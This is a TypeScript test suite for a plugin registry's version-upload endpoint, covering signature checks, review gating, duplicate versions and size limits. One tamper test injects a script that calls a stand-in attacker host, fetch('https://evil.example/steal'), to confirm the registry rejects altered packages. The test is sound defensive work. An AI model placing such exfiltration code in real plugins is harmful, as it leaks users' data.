import { randomBytes } from 'node:crypto';
import { writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { keyIdOf, ed25519PublicKeyFromSeed, sha256Hex, utf8Encode } from '@plughost/host-sdk/core';
import { sampleManifest } from '../../../support/plugin-package.js';
import { DEVELOPER_SEEDS, libraryManifest, signingKeys, startPublishingServer, type ErrorBody, type PublishingServer } from './publishing-support.js';
import { forEachStore } from '../store-support.js';

forEachStore(() => {
  interface UploadedBody {
    id: string;
    pluginId: string;
    slug: string;
    version: string;
    status: string;
    sha256: string;
    sizeBytes: number;
    changelog: string;
    publishedAt?: string;
    minLauncherVersion: string;
    permissions: string[];
    layers: string[];
    rolloutPercent: number;
    signerKeyId: string;
    createdAt: string;
    reviewReasons: string[];
  }

  const aliceKeys = signingKeys(DEVELOPER_SEEDS.alice1);
  const aliceKeyId = keyIdOf(ed25519PublicKeyFromSeed(DEVELOPER_SEEDS.alice1));

  async function errorOf(response: Response): Promise<ErrorBody['error'] & { status: number }> {
    return { status: response.status, ...((await response.json()) as ErrorBody).error };
  }

  describe('POST /plugins/<id>/versions: publication', () => {
    let server: PublishingServer;
    beforeAll(async () => {
      server = await startPublishingServer();
      expect((await server.certify('alice', DEVELOPER_SEEDS.alice1)).status).toBe(201);
    });
    afterAll(() => server.close());

    it('publishes an l3-only package without danger permission or UI at once, creating the record', async () => {
      const { path, bytes } = await server.writePackage('library-1.0.0', { manifest: libraryManifest(), keys: aliceKeys });
      const response = await server.upload('alice', 'com.example.library', path, { changelog: '  First release.  ' });
      expect(response.status).toBe(201);
      const body = (await response.json()) as UploadedBody;
      expect(body).toEqual({
        id: expect.any(String),
        pluginId: 'com.example.library',
        slug: 'library',
        version: '1.0.0',
        status: 'published',
        sha256: sha256Hex(bytes),
        sizeBytes: bytes.length,
        changelog: 'First release.',
        publishedAt: server.clock.now().toISOString(),
        minLauncherVersion: '0.1.0',
        permissions: ['config:read', 'network:fetch'],
        layers: ['l3'],
        rolloutPercent: 100,
        signerKeyId: aliceKeyId,
        createdAt: server.clock.now().toISOString(),
        reviewReasons: [],
      });
      const plugin = await server.catalog.getPlugin('com.example.library');
      expect(plugin).toMatchObject({ slug: 'library', name: 'Library', ownerAccountId: await server.accountId('alice') });

      // Clients see it at once, and download exactly the uploaded bytes.
      const detail = (await (await server.request('/plugins/library')).json()) as { latestVersion: string; versions: { version: string; sha256: string }[] };
      expect(detail.latestVersion).toBe('1.0.0');
      expect(detail.versions).toEqual([
        expect.objectContaining({ version: '1.0.0', sha256: sha256Hex(bytes), sizeBytes: bytes.length, changelog: 'First release.' }),
      ]);
      const download = await server.request('/plugins/library/versions/1.0.0/package');
      expect(download.status).toBe(200);
      expect(new Uint8Array(await download.arrayBuffer())).toEqual(bytes);
    });

    it('puts a package with a page layer, a danger permission or UI contributions into review', async () => {
      const cases: { name: string; manifest: Record<string, unknown>; files?: Record<string, string>; reason: RegExp }[] = [
        { name: 'page', manifest: sampleManifest({ id: 'com.example.page' }), reason: /layers l2/ },
        { name: 'danger', manifest: libraryManifest({ id: 'com.example.danger', permissions: ['shell:execute'] }), reason: /danger permission shell:execute/ },
        {
          name: 'menu',
          manifest: libraryManifest({ id: 'com.example.menu', contributes: { menuItems: [{ path: 'dist/index.html', label: 'Open', icon: 'ri-home-line' }] } }),
          reason: /menuItems/,
        },
        { name: 'inline', manifest: libraryManifest({ id: 'com.example.inline', render: 'inline' }), reason: /render: inline/ },
        {
          name: 'theme',
          manifest: libraryManifest({ id: 'com.example.theme', entry: { frontend: 'dist/index.html', theme: 'dist/theme.css' } }),
          files: { 'dist/index.html': '<!doctype html>', 'dist/theme.css': ':root{}' },
          reason: /entry\.theme/,
        },
      ];
      for (const entry of cases) {
        const { path } = await server.writePackage(entry.name, { manifest: entry.manifest, keys: aliceKeys, ...(entry.files ? { files: entry.files } : {}) });
        const response = await server.upload('alice', entry.manifest.id as string, path);
        expect(response.status, entry.name).toBe(201);
        const body = (await response.json()) as UploadedBody;
        expect(body.status, entry.name).toBe('pending_review');
        expect(body.publishedAt).toBeUndefined();
        expect(body.reviewReasons.join('\n'), entry.name).toMatch(entry.reason);
        const slug = body.slug;
        expect((await server.request(`/plugins/${slug}`)).status, entry.name).toBe(404);
      }
    });

    it('answers 409 version_exists for a version uploaded before, whatever its bytes', async () => {
      const { path } = await server.writePackage('library-again', {
        manifest: libraryManifest(),
        keys: aliceKeys,
        files: { 'dist/index.html': '<!doctype html><p>other bytes</p>' },
      });
      const error = await errorOf(await server.upload('alice', 'com.example.library', path));
      expect(error).toMatchObject({ status: 409, code: 'version_exists' });
      const pending = await server.writePackage('page-again', { manifest: sampleManifest({ id: 'com.example.page' }), keys: aliceKeys });
      expect(await errorOf(await server.upload('alice', 'com.example.page', pending.path))).toMatchObject({ status: 409, code: 'version_exists' });
    });

    it('keeps the changelog to 4000 characters: 400 changelog_too_long beyond', async () => {
      const { path } = await server.writePackage('library-1.1.0', { manifest: libraryManifest({ version: '1.1.0' }), keys: aliceKeys });
      const tooLong = await errorOf(await server.upload('alice', 'com.example.library', path, { changelog: 'é'.repeat(4001) }));
      expect(tooLong).toMatchObject({ status: 400, code: 'changelog_too_long' });
      const exact = await server.upload('alice', 'com.example.library', path, { changelog: '😀'.repeat(4000) });
      expect(exact.status).toBe(201);
      expect(((await exact.json()) as UploadedBody).changelog).toBe('😀'.repeat(4000));
    });

    it('refuses an organisation id: this registry has no organisations', async () => {
      const { path } = await server.writePackage('library-1.2.0', { manifest: libraryManifest({ version: '1.2.0' }), keys: aliceKeys });
      const error = await errorOf(await server.upload('alice', 'com.example.library', path, { orgId: 'acme' }));
      expect(error).toMatchObject({ status: 400, code: 'invalid_argument', message: expect.stringMatching(/organisations/) });
    });
  });

  describe('POST /plugins/<id>/versions: refusals', () => {
    let server: PublishingServer;
    beforeAll(async () => {
      server = await startPublishingServer();
      await server.certify('alice', DEVELOPER_SEEDS.alice1);
      await server.certify('bob', DEVELOPER_SEEDS.bob);
      await server.request('/plugins', { as: 'alice', json: { id: 'com.example.library', name: 'Library' } });
    });
    afterAll(() => server.close());

    it('needs a signed-in account', async () => {
      const { path } = await server.writePackage('anonymous', { manifest: libraryManifest(), keys: aliceKeys });
      expect((await errorOf(await server.upload(null, 'com.example.library', path))).code).toBe('unauthorized');
    });

    it('answers 422 signature_invalid for an unsigned package', async () => {
      const { path } = await server.writePackage('unsigned', { manifest: libraryManifest() });
      const error = await errorOf(await server.upload('alice', 'com.example.library', path));
      expect(error).toMatchObject({ status: 422, code: 'signature_invalid', message: expect.stringMatching(/not signed/) });
    });

    it('answers 422 signature_invalid for a package changed after signing', async () => {
      const { path } = await server.writePackage('tampered', {
        manifest: libraryManifest(),
        keys: aliceKeys,
        afterSigning: (entries) => entries.set('dist/main.js', utf8Encode('fetch("https://evil.example/steal")')),
      });
      const error = await errorOf(await server.upload('alice', 'com.example.library', path));
      expect(error).toMatchObject({ status: 422, code: 'signature_invalid', message: expect.stringMatching(/signedHash|hash/i) });
    });

    it("answers 422 for a package signed by another account's key, or by a key the registry never certified", async () => {
      const bobs = await server.writePackage('signed-by-bob', { manifest: libraryManifest(), keys: signingKeys(DEVELOPER_SEEDS.bob) });
      const error = await errorOf(await server.upload('alice', 'com.example.library', bobs.path));
      expect(error).toMatchObject({ status: 422, code: 'signature_invalid', message: expect.stringMatching(/not yours/) });
      // Root-certified (the certificate verifies), but never uploaded to this registry.
      const stranger = await server.writePackage('signed-by-stranger', { manifest: libraryManifest(), keys: signingKeys(DEVELOPER_SEEDS.stranger) });
      expect(await errorOf(await server.upload('alice', 'com.example.library', stranger.path))).toMatchObject({ status: 422, code: 'signature_invalid' });
    });

    it('answers 422 for a package signed by a revoked key', async () => {
      await server.certify('carol', DEVELOPER_SEEDS.carol);
      await server.certify('carol', DEVELOPER_SEEDS.stranger);
      const { path } = await server.writePackage('signed-by-revoked', {
        manifest: libraryManifest({ id: 'com.carol.tools' }),
        keys: signingKeys(DEVELOPER_SEEDS.carol),
      });
      const error = await errorOf(await server.upload('carol', 'com.carol.tools', path));
      expect(error).toMatchObject({ status: 422, code: 'signature_invalid', message: expect.stringMatching(/revoked/) });
      const current = await server.writePackage('signed-by-current', {
        manifest: libraryManifest({ id: 'com.carol.tools' }),
        keys: signingKeys(DEVELOPER_SEEDS.stranger),
      });
      expect((await server.upload('carol', 'com.carol.tools', current.path)).status).toBe(201);
    });

    it('answers 400 invalid_manifest naming the problems', async () => {
      const { path } = await server.writePackage('bad-manifest', { manifest: libraryManifest({ version: '1.0', layers: ['l9'] }), keys: aliceKeys });
      const error = await errorOf(await server.upload('alice', 'com.example.library', path));
      expect(error).toMatchObject({ status: 400, code: 'invalid_manifest' });
      expect(error.message).toMatch(/version/);
      expect(error.message).toMatch(/layers/);
    });

    it('answers 400 for a package of another plugin than the path names, and for a file that is no package', async () => {
      const { path } = await server.writePackage('other-id', { manifest: libraryManifest({ id: 'com.example.other' }), keys: aliceKeys });
      const error = await errorOf(await server.upload('alice', 'com.example.library', path));
      expect(error).toMatchObject({ status: 400, code: 'invalid_argument', message: expect.stringMatching(/com\.example\.other/) });

      const junk = join(server.context.options.dataDirectory, 'junk.plugpkg');
      await writeFile(junk, 'this is not a zip file');
      expect(await errorOf(await server.upload('alice', 'com.example.library', junk))).toMatchObject({ status: 400, code: 'invalid_package' });

      const noFile = await server.request('/plugins/com.example.library/versions', { as: 'alice', method: 'POST', body: new FormData() });
      expect(noFile.status).toBe(400);
      const json = await server.request('/plugins/com.example.library/versions', { as: 'alice', json: {} });
      expect(json.status).toBe(415);
    });

    it("answers 403 plugin_id_taken for another account's plugin id, before reading the package", async () => {
      const { path } = await server.writePackage('bob-on-alice', { manifest: libraryManifest(), keys: signingKeys(DEVELOPER_SEEDS.bob) });
      const error = await errorOf(await server.upload('bob', 'com.example.library', path));
      expect(error).toMatchObject({ status: 403, code: 'plugin_id_taken' });
      expect(await server.catalog.versionsOf('com.example.library')).toEqual([]);
    });
  });

  describe('POST /plugins/<id>/versions: size limit', () => {
    let server: PublishingServer;
    beforeAll(async () => {
      server = await startPublishingServer({ maxPackageBytes: 8 * 1024 });
      await server.certify('alice', DEVELOPER_SEEDS.alice1);
    });
    afterAll(() => server.close());

    it('answers 413 package_too_large above maxPackageBytes', async () => {
      for (const size of [16 * 1024, 256 * 1024]) {
        const { path } = await server.writePackage(`large-${size}`, {
          manifest: libraryManifest(),
          keys: aliceKeys,
          files: { 'dist/index.html': '<!doctype html>', 'dist/blob.bin': new Uint8Array(randomBytes(size)) },
        });
        const error = await errorOf(await server.upload('alice', 'com.example.library', path));
        expect(error, String(size)).toMatchObject({ status: 413, code: 'package_too_large' });
      }
      const { path } = await server.writePackage('small', { manifest: libraryManifest(), keys: aliceKeys });
      expect((await server.upload('alice', 'com.example.library', path)).status).toBe(201);
    });
  });
});
